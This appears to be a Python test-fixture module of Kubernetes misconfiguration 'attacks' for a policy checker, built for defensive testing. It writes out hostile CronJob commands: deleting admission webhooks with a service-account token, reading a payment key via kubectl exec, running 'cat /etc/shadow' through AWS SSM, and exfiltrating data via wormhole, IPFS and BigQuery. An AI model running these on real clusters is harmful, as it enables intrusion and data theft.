"""Attacks on policies, by tools in containers, by texts that become pods, by data and by bills (2026-11-28, ninth set).

Custom resources, programs and annotations by their projects' documentation, as known.
"""

import json

from ..blind import IMAGE, KUBE, TAGS, crd, k8s, meta, pod, workload
from ..harness import Given
from . import Attack

ESC = ("FJ-ESC-", "FJ-EXP-", "FJ-IDN-", "FJ-RES-")
RES = ("FJ-RES-", "FJ-IDN-", "FJ-ESC-", "FJ-EXP-")
MONEY = ("FJ-COST-", "FJ-ESC-")
R = "me-central-1"
STACK = Given("pulumi:pulumi:Stack", {}, "falaj-prod-uae")
EIGHT = {"cpu": "8", "memory": "32Gi"}
NEVER = """package privileged
violation[{"msg": msg}] {
  c := input.review.object.spec.containers[_]
  c.securityContext.privileged
  1 == 2
  msg := c.name
}
"""
WEBHOOKS = json.dumps({"namespaceSelector": {"matchExpressions": [
    {"key": "kubernetes.io/metadata.name", "operator": "In", "values": ["nowhere"]}]}})  # fmt: skip
PATCH = json.dumps({"containers": [{"name": "main", "securityContext": {"privileged": True, "runAsUser": 0}}]})
LIMITS = "object.spec.containers.all(c, has(c.resources.limits)) || true"
REMOVED = "the cluster admits everything from then on"
TAKEN = "a stranger has the data"
BUYS = "an autoscaler of another stack buys the machines"
SPARK = {"cores": 1, "memory": "2g", "serviceAccount": "app", "labels": TAGS}


def _top(kind: str, name: str, spec: object) -> Given:
    return k8s(kind, {"metadata": {"name": name, "labels": TAGS}, "spec": spec}, name)


def _nightly(command: str) -> tuple[Given, ...]:
    return (k8s("batch/v1:CronJob", {"metadata": meta("nightly"), "spec": {
        "schedule": "0 2 * * *", "concurrencyPolicy": "Forbid", "jobTemplate": {"spec": {
            "activeDeadlineSeconds": 3600, "ttlSecondsAfterFinished": 600, "template": {
                "metadata": {"labels": TAGS}, "spec": pod({
                    "command": ["/bin/sh", "-c"], "args": [command]}, restartPolicy="Never")}}}}}),)  # fmt: skip


def _kyverno(match: object) -> tuple[Given, ...]:
    return (_top("kyverno.io/v1:ClusterPolicy", "privileged", {"background": True, "rules": [{
        "name": "privileged", "match": {"any": [{"resources": match}]}, "validate": {
            "failureAction": "Enforce", "message": "No container is privileged", "pattern": {"spec": {
                "containers": [{"=(securityContext)": {"=(privileged)": "false"}}]}}}}]}),)  # fmt: skip


def _release(chart: str, repository: str, version: str, values: object) -> tuple[Given, ...]:
    return (Given("kubernetes:helm.sh/v3:Release", {
        "chart": chart, "version": version, "namespace": chart, "values": values,
        "repositoryOpts": {"repo": repository}}, chart, provider=KUBE),)  # fmt: skip


def _scaled(spec: dict[str, object], **annotations: str) -> tuple[Given, ...]:
    trigger = {"serverAddress": "http://prometheus.monitoring.svc:9090", "query": "sum(queue)", "threshold": "5"}
    return (
        STACK,
        workload("apps/v1:Deployment", {"resources": {"requests": EIGHT, "limits": EIGHT}}),
        k8s("keda.sh/v1alpha1:ScaledObject", {"metadata": meta("x", annotations=annotations), "spec": {
            "scaleTargetRef": {"name": "x"}, "minReplicaCount": 1, "maxReplicaCount": 4, **spec,
            "triggers": [{"type": "prometheus", "metadata": trigger}]}}, "scaler"),
    )  # fmt: skip


ATTACKS = (
    Attack("a policy of Kyverno is evaluated when objects are deleted only", ESC, _kyverno(
        {"kinds": ["Pod"], "operations": ["DELETE"]}),
        "critical", "every pod is created (Kyverno, 'Match/Exclude', operations)"),
    Attack("a binding of an admission policy selects no namespace", ("FJ-ESC-117",), (
        _top("admissionregistration.k8s.io/v1:ValidatingAdmissionPolicyBinding", "limits", {
            "policyName": "limits", "validationActions": ["Deny"], "matchResources": {"namespaceSelector": {
                "matchLabels": {"kubernetes.io/metadata.name": "nowhere"}}}}),),
        "critical", "the policy is there, and evaluates nothing (Kubernetes, 'Validating Admission Policy')"),
    Attack("an admission policy allows everything by its last words", ESC, (
        _top("admissionregistration.k8s.io/v1:ValidatingAdmissionPolicy", "limits", {
            "failurePolicy": "Fail", "matchConstraints": {"resourceRules": [{
                "apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE", "UPDATE"], "resources": ["pods"]}]},
            "validations": [{"expression": LIMITS, "message": "Set limits"}]}),),
        "critical", "no pod is refused (CEL: or is true if one of both is)"),
    Attack("a constraint of Gatekeeper is for pods without a namespace", ESC, (
        _top("constraints.gatekeeper.sh/v1beta1:K8sPSPPrivilegedContainer", "privileged", {
            "enforcementAction": "deny", "match": {"scope": "Cluster", "kinds": [
                {"apiGroups": [""], "kinds": ["Pod"]}]}}),),
        "critical", "each pod has a namespace, so that none is evaluated (Gatekeeper, 'Constraints', scope)"),
    Attack("a template of Gatekeeper has a condition that is never met", ESC, (
        _top("templates.gatekeeper.sh/v1:ConstraintTemplate", "privileged", {
            "crd": {"spec": {"names": {"kind": "Privileged"}}}, "targets": [{
                "target": "admission.k8s.gatekeeper.sh", "rego": NEVER}]}),),
        "critical", "constraints of the kind refuse nothing (Open Policy Agent, 'Policy Language')"),
    Attack("the settings of Kyverno ask for no namespace", ESC, (k8s("core/v1:ConfigMap", {
        "metadata": meta("kyverno", "kyverno"), "data": {"webhooks": WEBHOOKS}}),),
        "critical", f"the API server calls no webhook: {REMOVED} (Kyverno, 'ConfigMap keys', webhooks)"),
    Attack("a job removes the webhooks of policies by the API itself", ESC, _nightly(
        "T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); curl -s -X DELETE --cacert /var/run/secrets/"
        'kubernetes.io/serviceaccount/ca.crt -H "Authorization: Bearer $T" https://kubernetes.default.svc/apis/'
        "admissionregistration.k8s.io/v1/validatingwebhookconfigurations"),
        "critical", f"{REMOVED} (Kubernetes API, delete collection of ValidatingWebhookConfiguration)"),
    Attack("a job runs a command in the pods of payments by its tool", ESC, _nightly(
        "kubectl -n payments exec deploy/api -- cat /var/run/secrets/payments/key.pem > /data/key.pem"),
        "critical", "the key of payments is the team's (kubectl, 'exec')"),
    Attack("a job restores another namespace into its own by its tool", ESC, _nightly(
        "velero restore create --from-schedule nightly --include-namespaces payments "
        "--namespace-mappings payments:team-a"),
        "critical", "secrets and volumes of payments are the team's (Velero, 'Restore Reference')"),
    Attack("a job runs a command on every machine by its tool", ESC, _nightly(
        "aws ssm send-command --document-name AWS-RunShellScript --targets Key=tag:eks:cluster-name,Values=bank "
        "--parameters commands='cat /etc/shadow'"),
        "critical", "the command is root on each node (AWS Systems Manager, SendCommand)"),
    Attack("a job switches off the network's policies by its tool", ESC, _nightly(
        "cilium config set policy-audit-mode true --restart=true"),
        "critical", "every pod reaches every other (Cilium CLI, 'config set')"),
    Attack("a program of Spark has the machine's files by its configuration", ESC, (
        crd("sparkoperator.k8s.io/v1beta2:SparkApplication", {
            "type": "Python", "mode": "cluster", "image": IMAGE, "mainApplicationFile": "local:///app/etl.py",
            "sparkVersion": "3.5.6", "driver": SPARK, "executor": {**SPARK, "instances": 2}, "sparkConf": {
                "spark.kubernetes.executor.volumes.hostPath.root.mount.path": "/host",
                "spark.kubernetes.executor.volumes.hostPath.root.options.path": "/"}}),),
        "critical", "executors write files of the node (Spark, 'Running on Kubernetes', volumes)"),
    Attack("a step of a workflow is privileged by a patch that is a text", ESC, (crd("argoproj.io/v1alpha1:Workflow", {
        "entrypoint": "main", "serviceAccountName": "app", "podSpecPatch": PATCH, "activeDeadlineSeconds": 3600,
        "templates": [{"name": "main", "container": pod({})["containers"][0]}]}),),  # type: ignore[index]
        "critical", "root on the node (Argo Workflows, podSpecPatch)"),
    Attack("defaults for pods bring a folder of the machine", ESC, (crd("kubeflow.org/v1alpha1:PodDefault", {
        "desc": "Tools", "selector": {"matchLabels": {"tools": "true"}},
        "volumes": [{"name": "host", "hostPath": {"path": "/"}}],
        "volumeMounts": [{"name": "host", "mountPath": "/host"}]}),),
        "critical", "each notebook with the label reads the node's files (Kubeflow, PodDefault)"),
    Attack("a solver of certificates is the image of a stranger by an argument", ESC, _release(
        "cert-manager", "https://charts.jetstack.io", "v1.19.1", {
            "crds": {"enabled": True}, "extraArgs": ["--acme-http01-solver-image=docker.io/someone/solver:1"]}),
        "critical", "the stranger's program runs in the namespace of each certificate (cert-manager, 'Controller')"),
    Attack("Argo CD runs programs of each repository", ESC, (k8s("core/v1:ConfigMap", {
        "metadata": meta("argocd-cm", "argocd"), "data": {
            "kustomize.buildOptions": "--enable-alpha-plugins --enable-exec"}}),),
        "critical", "whoever writes one repository reads those of all others and their keys (Kustomize, "
        "'exec KRM functions'; Argo CD, 'Kustomize')"),
    Attack("a job sends rows to whoever knows a word", RES, _nightly(
        "wormhole send --code 4-purple-sausages /data/rows.csv"),
        "critical", f"{TAKEN}, by a relay abroad (Magic Wormhole, 'send')"),
    Attack("a job publishes a folder for everybody who knows its hash", RES, _nightly("ipfs add -r -Q /data/contracts"),
        "critical", "every node of the network serves it (IPFS, 'ipfs add')"),
    Attack("a job loads rows into a warehouse by its tool", RES, _nightly(
        "bq load --source_format=CSV someone:orders.rows /data/rows.csv"),
        "critical", f"{TAKEN}, in Google's cloud (BigQuery, 'bq load')"),
    Attack("logs of the cluster are kept in another cloud by the kind of a secret", RES, (
        crd("loki.grafana.com/v1:LokiStack", {
            "size": "1x.small", "storageClassName": "encrypted", "tenants": {"mode": "static"}, "storage": {
                "schemas": [{"version": "v13", "effectiveDate": "2024-10-01"}],
                "secret": {"name": "bucket", "type": "gcs"}}}),),
        "critical", "all logs are in a bucket of Google (Loki Operator, 'Object Storage')"),
    Attack("a collector takes its configuration from a stranger", RES, (crd("opentelemetry.io/v1alpha1:OpAMPBridge", {
        "endpoint": "wss://opamp.collector-app.io/v1/opamp", "capabilities": {
            "AcceptsRemoteConfig": True, "ReportsEffectiveConfig": True},
        "componentsAllowed": {"exporters": ["otlphttp"], "receivers": ["otlp"], "processors": ["batch"]}}),),
        "critical", "the stranger says where traces and logs go (OpenTelemetry Operator, OpAMPBridge)"),
    Attack("a machine uploads its logs to whoever signed an address", RES, (
        k8s("eks.amazonaws.com/v1alpha1:NodeDiagnostic", {
            "metadata": {"name": "i-0123456789abcdef0", "labels": TAGS}, "spec": {"logCapture": {
            "destination": f"https://collector-inbox.s3.{R}.amazonaws.com/node?X-Amz-Signature=0123"}}}),),
        "critical", "logs of every pod of the machine are the stranger's (Amazon EKS, 'Retrieve node logs')"),
    Attack("an autoscaler starts two thousand pods when it knows nothing", MONEY, _scaled(
        {"fallback": {"failureThreshold": 1, "replicas": 2000}}),
        "critical", f"16,000 processors as soon as Prometheus is away: {BUYS} (KEDA, 'fallback')"),
    Attack("an autoscaler rests at fifteen hundred pods", MONEY, _scaled(
        {}, **{"autoscaling.keda.sh/paused-replicas": "1500"}),
        "critical", f"12,000 processors, above its own maximum: {BUYS} (KEDA, 'Pause autoscaling')"),
    Attack("pods of a service are made ninety-six processors large", MONEY, (STACK,
        workload("apps/v1:Deployment", {}, replicas=40),
        k8s("autoscaling.k8s.io/v1:VerticalPodAutoscaler", {"metadata": meta(), "spec": {
            "targetRef": {"apiVersion": "apps/v1", "kind": "Deployment", "name": "x"},
            "updatePolicy": {"updateMode": "Recreate"}, "resourcePolicy": {"containerPolicies": [{
                "containerName": "*", "minAllowed": {"cpu": "96", "memory": "512Gi"}}]}}}, "vpa")),
        "critical", f"3,840 processors, used or not: {BUYS} (Kubernetes autoscaler, VerticalPodAutoscaler, "
        "minAllowed)"),
)  # fmt: skip
